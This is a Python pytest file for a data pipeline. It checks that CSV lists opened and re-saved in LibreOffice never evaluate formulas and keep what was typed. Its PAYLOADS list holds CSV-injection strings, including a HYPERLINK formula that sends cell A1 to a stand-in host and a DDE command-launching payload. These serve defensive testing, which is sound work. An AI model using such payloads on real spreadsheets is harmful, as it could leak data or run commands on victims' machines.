"""The real LibreOffice opens published lists: nothing is computed, and what it saves says what was typed.

Filter options: https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from pipeline.digest.csv_file import as_typed
from pipeline.errors import BadTable
from pipeline.steps.crm import check_crm, load_crm, read_crm
from pipeline.steps.feedback.saved_table import read_table
from pipeline.steps.feedback.typed_lists import read_cells
from pipeline.warehouse import Connection
from tests.contract.homes import call, ticket, warehouse, write_lines

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(
    SOFFICE is None, reason="no LibreOffice on this machine: install libreoffice-calc to open the lists with it"
)
OWNER = "mia@tidewater.example"
# By the rules of https://owasp.org/www-community/attacks/CSV_Injection: what begins with = + - @ tab CR or a full-width
# form, after a quotation mark or a separator as well.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '"=1+1"',
    "'=1+1",
    "Elm;=1+1",
    'Elm;"=1+1";Fir',
    "Elm,=1+1",
    'Elm",=1+1,"',
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
    "=cmd|'/C calc'!A0",
]
NIGHT = "2026-11-12"
WISH = "could you add 40 more seats to our Team plan and tell us what they would cost?"
CSV_AS_SHOWN = "csv:Text - txt - csv (StarCalc):{delimiter},34,{charset},1,,0,{quoted},true,false"


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder for LibreOffice's own profile and what it writes."""
    return tmp_path_factory.mktemp("office")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A night in which customers are called, and write, what a spreadsheet would run."""
    folder = tmp_path_factory.mktemp("payloads")
    accounts = folder / "accounts.csv"
    with open(accounts, "w", encoding="utf-8", newline="") as stream:
        rows = [[f"A-{n}", name, "9000", OWNER] for n, name in enumerate(PAYLOADS)]
        csv.writer(stream).writerows([["account_id", "name", "arr", "owner_email"], *rows])
    export = folder / "export"
    ids = range(len(PAYLOADS))
    write_lines(
        export / "organizations",
        [{"id": 90 + n, "name": f"Org {n}", "external_id": f"A-{n}", "domain_names": []} for n in ids],
    )
    said = [ticket(n + 1, f"{PAYLOADS[n]} {WISH}", organization_id=90 + n) for n in ids]
    write_lines(export / "tickets", said)
    done = call(folder / "home", "nightly", f"--as-of={NIGHT}", "--tickets", export, "--accounts", accounts)
    assert done.returncode == 0, done.stderr
    return folder / "home"


def _converted(office: Path, to: str, *files: Path, opened: str = "") -> list[Path]:
    """What LibreOffice makes of files, in a folder of its own."""
    out = office / f"out{len(list(office.iterdir()))}"
    profile = (office / "profile").as_uri()
    command = [
        str(SOFFICE),
        f"-env:UserInstallation={profile}",
        "--headless",
        *([f"--infilter={opened}"] * bool(opened)),
    ]
    command += ["--convert-to", to, "--outdir", str(out), *map(str, files)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return [out / f"{file.stem}.{to.split(':')[0]}" for file in files]


def _formulas(flat: Path) -> list[str]:
    return re.findall(r'table:formula="([^"]*)"', flat.read_text(encoding="utf-8"))


def _open(home: Path) -> Path:
    return home / "data" / "owners" / OWNER / "open.csv"


@pytest.mark.parametrize("delimiter", ["44", "59", "44/59/9"], ids=["comma", "semicolon", "all that it offers"])
def test_nothing_is_computed(delimiter: str, home: Path, office: Path) -> None:
    raw = office / "raw.csv"  # the same without our care, so that it is seen that LibreOffice would
    raw.write_text("".join(f'1,"{payload}"\n2;{payload}\n' for payload in PAYLOADS[:1]), encoding="utf-8")
    held = home / "data" / "digests" / NIGHT / "leads.csv"
    control, *lists = _converted(office, "fods", raw, _open(home), held, opened=f"CSV:{delimiter},34,76,1")
    assert _formulas(control)
    assert [_formulas(flat) for flat in lists] == [[], []]
    assert not any(re.search("#NAME|Err:5|#REF", flat.read_text(encoding="utf-8")) for flat in lists)


@pytest.mark.parametrize(
    ("by_way_of", "delimiter", "charset", "quoted"),
    [("ods", "59", "76", "false"), ("xlsx", "9", "65535", "true"), ("", "44", "1", "false")],
    ids=["ods, semicolon", "xlsx, tab and UTF-16", "csv, Windows-1252"],
)
def test_list_that_libreoffice_saved_says_what_was_typed(
    by_way_of: str, delimiter: str, charset: str, quoted: str, home: Path, office: Path, tmp_path: Path
) -> None:
    scout = Path(shutil.copytree(home, tmp_path / "home"))
    published = read_table(_open(scout))
    rows = [dict(zip(published.header, row, strict=True)) for row in published.rows]
    assert {as_typed(row["account"]) for row in rows} == {" ".join(payload.split()) for payload in PAYLOADS}
    words = ["won", "Lost", "not a signal", "contacted", "snoozed"]
    for n, row in enumerate(rows):
        reason = "'" + PAYLOADS[n].strip() if n % 2 else f"they said: {PAYLOADS[n].strip()}"
        row |= {"outcome": words[n % 5], "outcome_reason": reason, "snooze_until": "2026-12-03" * (n % 5 == 4)}
    typed = io.StringIO(newline="")
    writer = csv.DictWriter(typed, published.header)
    writer.writeheader()
    writer.writerows(rows)
    _open(scout).write_text(typed.getvalue(), encoding="utf-8-sig", newline="")
    meant = read_cells(_open(scout))

    file = _open(scout)
    if by_way_of:
        (file,) = _converted(office, by_way_of, file, opened="CSV:44,34,76,1")
    (saved,) = _converted(
        office,
        CSV_AS_SHOWN.format(delimiter=delimiter, charset=charset, quoted=quoted),
        file,
        **({} if by_way_of else {"opened": "CSV:44,34,76,1"}),
    )
    assert saved.read_bytes() != _open(scout).read_bytes()
    if charset != "1":  # Windows' page has no full-width letters
        assert read_cells(saved) == meant
        again = [dict(zip(published.header, row, strict=False)) for row in read_table(saved).rows]
        assert [as_typed(row["account"]) for row in again] == [as_typed(row["account"]) for row in rows]
        assert [as_typed(row["quote"]) for row in again] == [as_typed(row["quote"]) for row in rows]

    shutil.copyfile(_open(scout), tmp_path / "open.csv")
    done = call(scout, "feedback", "import", tmp_path / "open.csv")
    assert f"read {len(PAYLOADS)} outcomes" in done.stderr and "not understood" not in done.stderr
    said = _outcomes(scout)
    shutil.copyfile(saved, _open(scout))  # saved where it lies
    done = call(scout, "feedback", "import", saved)
    assert done.returncode == 0 and "read 0 outcomes" in done.stderr, done.stderr
    assert not re.search("not understood|unknown|conflict|unreadable", done.stderr)
    assert _outcomes(scout) == said


def _outcomes(home: Path) -> list[tuple[str, str, str]]:
    with warehouse(home) as con:
        return con.execute("SELECT lead_id, outcome, outcome_reason FROM outcomes ORDER BY read_order").fetchall()


def test_accounts_that_libreoffice_saved_are_the_same_and_ids_that_it_rounded_are_refused(
    office: Path, tmp_path: Path, con: Connection
) -> None:
    long = tmp_path / "long.csv"
    long.write_text("account_id,name\n123456789012345678,Elm\n", encoding="utf-8")
    german = tmp_path / "german.csv"
    head = "account_id;name;arr;renewal_date;do_not_contact"
    text = f"{head}\nA-1;Zoë;12.000,50;4.3.2027;WAHR\nA-2;Elm;1.200;31.12.2027;FALSCH\n"
    german.write_text(text, encoding="utf-8")
    (rounded,) = _converted(office, "csv", long, opened="CSV:44,34,76,1")
    as_shown = CSV_AS_SHOWN.format(delimiter="59", charset="1", quoted="false")
    (saved,) = _converted(office, as_shown, german, opened="CSV:59,34,76,1,,1031")  # opened as a German does
    with pytest.raises(BadTable, match="as text"):
        check_crm({"accounts": rounded}, {})
    loaded = []
    for file in (german, saved):
        load_crm(con, read_crm(con, {"accounts": file}, {}))
        loaded.append(con.execute("SELECT * FROM accounts ORDER BY account_id").fetchall())
    assert loaded[0] == loaded[1]
    assert [str(row[5]) for row in loaded[0]] == ["12000.50", "1200.00"]
